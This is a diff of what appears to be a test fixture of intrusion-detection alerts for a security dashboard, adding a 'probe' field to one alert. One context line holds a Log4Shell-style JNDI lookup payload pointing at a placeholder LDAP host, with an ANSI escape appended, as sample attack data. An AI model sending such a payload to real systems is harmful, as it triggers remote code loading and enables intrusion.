@@ -28,7 +28,7 @@ ALERTS = [
                     http={"hostname": "app.gov.example", "url": "/?x=${jndi:ldap://203.0.113.66/a}\u001b[31m"})},
     {"id": 30, "status": "escalated", "received": "2026-11-22T10:02:01.000000+0000",
      "event": event(2, src_ip="2001:db8::1", verdict="attempt", segment={})},
-    {"id": 29, "status": "false_positive", "received": "2026-11-22T10:03:01.000000+0000",
+    {"id": 29, "status": "false_positive", "probe": "whose-key-it-is", "received": "2026-11-22T10:03:01.000000+0000",
      "event": event(3, src_port=None, dest_port=None, notice={"detector": "portscan", "facts": {"targets": 120}})},
 ]
 DETAIL = dict(ALERTS[0], history=[{"status": "acknowledged", "who": "李明", "reason": "正在核实", "at": "2026-11-22T10:05:00.0+0000"}])
